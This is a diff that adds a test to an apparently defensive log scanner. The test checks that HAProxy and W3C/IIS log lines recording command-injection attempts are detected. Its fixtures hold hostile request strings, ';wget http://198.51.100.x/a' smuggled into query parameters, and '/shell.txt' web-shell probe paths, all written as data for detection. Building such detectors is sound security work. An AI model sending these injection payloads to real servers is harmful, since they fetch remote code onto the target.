@@ -289,3 +289,25 @@ def test_a_hostile_fields_header_cannot_break_the_format_name():
     lines = [b"#Fields: date time c-ip || cs-method \x1b[31m cs-uri-stem |x", b"2026-11-25 10:00:00 203.0.113.1 GET /"]
     fmt = detect_format(lines)
     assert fmt.name == "w3c:date time c-ip cs-method cs-uri-stem" and compile_format(fmt.name).name == fmt.name
+
+
+def test_prefilter_stays_sound_for_what_each_parser_undoes(sigs, full_scanner):
+    """HAProxy's #XX escapes make characters, and W3C joins stem and query with a '?' the raw
+    line does not hold: both must still reach the fast path's candidates."""
+    fast = Scanner(sigs)
+    haproxy = (
+        b"Nov 25 11:11:11 lb1 haproxy[6801]: 203.0.113.5:55008 [25/Nov/2026:11:11:11.584] ft~ bk/web1 "
+        b'0/0/0/72/72 404 1 - - ---- 5/4/0/1/0 0/0 "GET /x?c=;w#67et#20http://198.51.100.3/a HTTP/1.1"\n'
+    )
+    w3c = (
+        b"#Fields: date time c-ip cs-method cs-uri-stem cs-uri-query sc-status\n"
+        b"2026-11-25 10:00:00 203.0.113.1 GET /x.php c=;wget+http://198.51.100.4/a 404\n"
+    )
+    for data, expect in ((haproxy, "198.51.100.3"), (w3c, "198.51.100.4")):
+        fmt = detect_format(data.split(b"\n"))
+        results = [sc.scan_chunk(data, fmt, log_file="-") for sc in (fast, full_scanner)]
+        assert [[d.host for f in r.findings for d in f.egress] for r in results] == [[expect], [expect]], fmt.name
+    # the keyword ".txt?" across the stem/query separator (space in IIS, tab in CloudFront)
+    stem_query = [b"/shell.txt page=1", b"/shell.txt\tpage=1"]
+    assert [fast.prefilter(compile_format("w3c")).passes(x) for x in stem_query] == [True, True]
+    assert [fast.prefilter(compile_format("combined")).passes(x) for x in stem_query] == [False, False]
